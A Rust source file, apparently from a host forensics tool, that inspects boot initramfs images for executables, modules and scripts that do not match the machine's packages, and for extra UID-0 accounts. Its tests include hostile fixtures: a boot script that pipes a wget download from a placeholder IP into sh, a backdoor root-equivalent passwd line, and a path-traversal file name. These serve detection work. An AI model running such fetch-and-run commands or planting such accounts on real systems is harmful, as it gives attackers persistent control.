//! Programs in the images that a kernel starts with which are not as the machine has them.
//!
//! Source: initramfs-tools(7), dracut(8); the digests of dpkg's packages. Whoever is in the image
//! runs before everything else, and the files on the disk stay as they were.

use std::path::{Path, PathBuf};

use stanch_machine::{FileKind, Stat};
use stanch_words::{Ask, Gap, GapKind, Seen, Value, table_spec, text};

use crate::Host;
use crate::accounts::path_of;
use crate::decompress::Source;
use crate::digest::{self, Digest};
use crate::initial_ramdisk::{self, Member};
use crate::packages::shipped::{Md5, Shipped};
use crate::packages::{self, Index};
use crate::persistence::judge;
use crate::reach::Reach;
use crate::system_files::Depth;

table_spec! {
    /// What is odd in boot images.
    pub static SPEC, col = "initial_ramdisk_files": Files, "Programs, scripts, modules and accounts in the initial ramdisks of /boot that neither a package nor the machine has so; of the newest image only, unless everything is looked at.";
    image Text Plain "The image.";
    name Text Plain "The file's name in it.";
    kind Text Plain "elf, script, module, or account (one with user ID 0 that is not root).";
    state Text Plain "altered (a package's file of that name has another content), unowned (nothing of that content or name is on the machine), older (the package came after the image was made).";
    path Text Plain "The file of that name on the machine; empty if there is none.";
    package Text Plain "The package that owns it.";
    md5 Text Plain "MD5 of the content.";
    mode Text Plain "Permission bits, octal.";
    size BigInt Plain "Size in bytes.";
    image_ctime BigInt Plain "Last change of the image's inode, seconds since 1970.";
    score BigInt Plain "How telling a script's content is, from 0 to 100: 50 is worth a look, 80 hardly innocent.";
    reasons Text Plain "What is telling in it.";
    what Text Plain "Of an account: its line.";
}

const PLACES: [&str; 4] =
    ["/boot/initrd.img*", "/boot/initrd-*", "/boot/initramfs*", "/boot/efi/*/*/initrd"];
/// How many images and how many odd files of each.
const IMAGES: usize = 20;
const ROWS: usize = 500;

/// Where a file of an image comes from, besides its own name (initramfs-tools, klibc).
const FROM: [(&str, &str); 6] = [
    ("", "/"),
    ("", "/usr/"),
    ("", "/usr/share/initramfs-tools/"),
    ("", "/etc/initramfs-tools/"),
    ("bin/", "/usr/lib/klibc/bin/"),
    ("usr/bin/", "/usr/lib/klibc/bin/"),
];

/// Reads the images.
pub(super) fn read(host: &Host, _ask: &Ask, seen: &mut Seen) {
    let mut reach = Reach::new(host, SPEC.name);
    let mut images: Vec<(PathBuf, Stat)> = Vec::new();
    for place in PLACES {
        for path in reach.glob(Path::new(place), seen) {
            let stat = host.machine().lstat(&path);
            if let Ok(stat) = stat
                && stat.kind() == FileKind::Regular
                && !images.iter().any(|(known, _)| *known == path)
            {
                images.push((path, stat));
            }
        }
    }
    reach.finish(seen);
    images.sort_by_key(|(_, stat)| std::cmp::Reverse(stat.changed));
    let is_usual = host.made::<Depth>().is_some_and(|depth| *depth == Depth::Usual);
    let most = if is_usual { 1 } else { IMAGES };
    if images.is_empty() {
        return;
    }
    let index = packages::index(host);
    let shipped = Shipped::read(host, &index, SPEC.name, seen);
    let known = shipped.all();
    for (path, stat) in images.iter().take(most) {
        Image { host, index: &index, known: &known, path, stat }.read(seen);
    }
}

struct Image<'a> {
    host: &'a Host,
    index: &'a Index,
    /// Digests of what packages shipped, in order.
    known: &'a [(Md5, u32)],
    path: &'a Path,
    stat: &'a Stat,
}

impl Image<'_> {
    fn read(&self, seen: &mut Seen) {
        let gap = |detail: String| {
            let at = Value::from(self.path).to_string();
            Gap::new(SPEC.name, GapKind::Damaged, detail).at(at)
        };
        let file = match self.host.machine().open(self.path) {
            Ok(file) => file,
            Err(miss) => return crate::host::note(SPEC.name, &miss, seen),
        };
        let consumed = std::cell::Cell::new(0);
        let mut source = Source::new(&*file, &consumed);
        let mut members = Vec::new();
        let mut of_dracut = false;
        let result = initial_ramdisk::members(&mut source, &mut |mut member| {
            of_dracut |= member.name.starts_with(b"usr/lib/dracut/");
            let kind = kind(&member);
            let is_known = self.known.binary_search_by_key(&member.md5, |known| known.0).is_ok();
            if kind == "account" || !kind.is_empty() && !is_known && members.len() < ROWS {
                if !matches!(kind, "account" | "script") {
                    member.text = Vec::new();
                }
                members.push((kind, member));
            }
        });
        if let Err(why) = result {
            seen.gap(gap(why));
        }
        if members.len() >= ROWS {
            seen.gap(gap("too many files in it are no package's; the rest is left out".to_owned()));
        }
        for (kind, member) in &members {
            // dracut strips programs, so that none has the digest of its package's.
            if !(of_dracut && matches!(*kind, "elf" | "module")) {
                self.member(kind, member, seen);
            }
        }
    }

    fn member(&self, kind: &'static str, member: &Member, seen: &mut Seen) {
        let mut row = SPEC.row();
        row.put(col::image, self.path)
            .put(col::name, text::from_bytes(&member.name))
            .put(col::kind, kind)
            .put(col::md5, text::hex(&member.md5))
            .put(col::mode, format!("{:04o}", member.mode & 0o7777))
            .put(col::size, member.size)
            .put(col::image_ctime, self.stat.changed.div_euclid(1_000_000_000))
            .put(col::path, "")
            .put(col::package, "")
            .put(col::state, "unowned")
            .put(col::score, 0)
            .put(col::reasons, "")
            .put(col::what, "");
        if kind == "script" {
            let judged = judge::file(&member.text);
            row.put(col::score, judged.score()).put(col::reasons, judged.reasons());
        }
        if kind == "account" {
            for line in member.text.split(|&byte| byte == b'\n').filter(|line| is_second_root(line))
            {
                row.put(col::what, text::from_bytes(line));
                seen.push(row.clone());
            }
            return;
        }
        let machine = self.host.machine();
        let mut named: Option<PathBuf> = None;
        for path in candidates(&member.name) {
            let Ok(resolved) = machine.resolve(&path) else { continue };
            if !machine.lstat(&resolved).is_ok_and(|stat| stat.kind() == FileKind::Regular) {
                continue;
            }
            let found = digest::of_file(machine, &resolved, &[Digest::Md5]).unwrap_or_default();
            // What the machine itself has so is judged where it lies.
            if found.first().is_some_and(|found| *found == text::hex(&member.md5)) {
                return;
            }
            named.get_or_insert(resolved);
        }
        if let Some(path) = named {
            let owner = self.index.owner(&path);
            let package = owner.as_ref().map(|owner| owner.package.name.to_string());
            // The inode of the package's file is newer than the image: it was upgraded since.
            let came = machine.lstat(&path).map_or(i128::MAX, |stat| stat.changed.into());
            let state = match &package {
                Some(_) if came > self.stat.changed.into() => "older",
                Some(_) => "altered",
                None => "unowned",
            };
            row.put(col::path, path.as_path())
                .put(col::package, package.unwrap_or_default())
                .put(col::state, state);
        }
        seen.push(row);
    }
}

/// Returns the places that a file of an image may have been copied from.
fn candidates(name: &[u8]) -> impl Iterator<Item = PathBuf> {
    FROM.iter().filter_map(move |(inside, outside)| {
        let rest = name.strip_prefix(inside.as_bytes())?;
        let climbs = rest.split(|&byte| byte == b'/').any(|part| part == b"..");
        (!climbs && !rest.is_empty()).then(|| path_of(&[outside.as_bytes(), rest].concat()))
    })
}

/// Returns what a file in an image is, if it can run or lets somebody in.
fn kind(member: &Member) -> &'static str {
    let is_module = member.name.windows(3).any(|part| part == b".ko");
    match member.head {
        _ if member.name == b"etc/passwd" => {
            let second = member.text.split(|&byte| byte == b'\n').any(is_second_root);
            if second { "account" } else { "" }
        }
        _ if is_module && !member.name.ends_with(b".bin") => "module",
        [0x7f, b'E', b'L', b'F', ..] => "elf",
        [b'#', b'!', ..] => "script",
        // What a script reads in: only where the image's own scripts lie.
        _ if member.mode & 0o111 != 0 && member.name.starts_with(b"scripts/") => "script",
        _ => "",
    }
}

fn is_second_root(line: &[u8]) -> bool {
    let mut fields = line.split(|&byte| byte == b':');
    let name = fields.next().unwrap_or_default();
    let uid = fields.nth(1).unwrap_or_default();
    name != b"root" && !name.is_empty() && uid == b"0"
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use stanch_machine::Pretend;

    use super::*;
    use crate::initial_ramdisk::tests::made;

    fn look(machine: Pretend) -> Vec<String> {
        let mut seen = Seen::default();
        read(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
        assert_eq!(seen.gaps, []);
        let cells = [col::name, col::kind, col::state, col::path, col::reasons, col::what];
        let told = |row: &stanch_words::Row| cells.map(|c| row.get(c).to_string()).join("|");
        seen.rows.iter().map(told).collect()
    }

    fn debian() -> Pretend {
        let sum = |text: &str| digest::of_bytes(Digest::Md5, text.as_bytes());
        let list = "/usr/bin/tool\n/usr/share/initramfs-tools/init\n/usr/bin/new\n";
        let sums = format!(
            "{}  usr/bin/tool\n{}  usr/share/initramfs-tools/init\n{}  usr/bin/new\n",
            sum("\x7fELF tool"),
            sum("#!/bin/sh\ninit\n"),
            sum("\x7fELF new"),
        );
        Pretend::new()
            .link("/bin", "usr/bin")
            .file(
                "/var/lib/dpkg/status",
                "Package: p\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n",
            )
            .file("/var/lib/dpkg/info/p.list", list)
            .file("/var/lib/dpkg/info/p.md5sums", sums)
            .file("/usr/bin/tool", "\x7fELF tool")
            .file("/usr/bin/new", "\x7fELF new")
            .with("/usr/bin/new", |stat| stat.changed += 5_000_000_000_000)
            .file("/usr/share/initramfs-tools/init", "#!/bin/sh\ninit\n")
            .file("/etc/initramfs-tools/scripts/local-top/own", "#!/bin/sh\nown\n")
    }

    const CLEAN: &[(&str, u32, &str)] = &[
        ("init", 0o10_0755, "#!/bin/sh\ninit\n"),
        ("usr/bin/tool", 0o10_0755, "\x7fELF tool"),
        ("scripts/local-top/own", 0o10_0755, "#!/bin/sh\nown\n"),
        ("scripts/local-top/ORDER", 0o10_0644, "/scripts/local-top/own\n"),
        ("etc/passwd", 0o10_0644, "root:x:0:0::/root:/bin/sh\n"),
    ];

    #[test]
    fn an_image_of_what_the_machine_has_says_nothing() {
        let machine = debian().file("/boot/initrd.img-6.1", made(CLEAN));
        assert_eq!(look(machine), Vec::<String>::new());
        assert_eq!(look(debian()), Vec::<String>::new());
    }

    #[test]
    fn what_only_the_image_has_is_told() {
        let odd: &[(&str, u32, &str)] = &[
            ("bin/tool", 0o10_0755, "\x7fELF another"),
            ("usr/bin/new", 0o10_0755, "\x7fELF old"),
            (
                "scripts/init-premount/agent",
                0o10_0755,
                "#!/bin/sh\nwget -qO- http://192.0.2.1/s | sh\n",
            ),
            ("usr/lib/modules/a.ko.xz", 0o10_0644, "module"),
            ("etc/passwd", 0o10_0644, "root:x:0:0:::\nagent:x:0:0::/:/bin/sh\n"),
            ("../../bin/tool", 0o10_0755, "\x7fELF climbs"),
        ];
        let machine = debian().file("/boot/initrd.img-6.1", made(odd));
        assert_eq!(
            look(machine),
            [
                "bin/tool|elf|altered|/usr/bin/tool||",
                "usr/bin/new|elf|older|/usr/bin/new||",
                "scripts/init-premount/agent|script|unowned||fetch-and-run|",
                "usr/lib/modules/a.ko.xz|module|unowned|||",
                "etc/passwd|account|unowned|||agent:x:0:0::/:/bin/sh",
                "../../bin/tool|elf|unowned|||",
            ]
        );
    }

    #[test]
    fn a_damaged_image_is_a_gap() {
        let mut seen = Seen::default();
        let machine = debian().file("/boot/initramfs-6.1.img", "what is this");
        read(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
        assert_eq!((seen.rows.len(), seen.gaps.len()), (0, 1));
    }
}
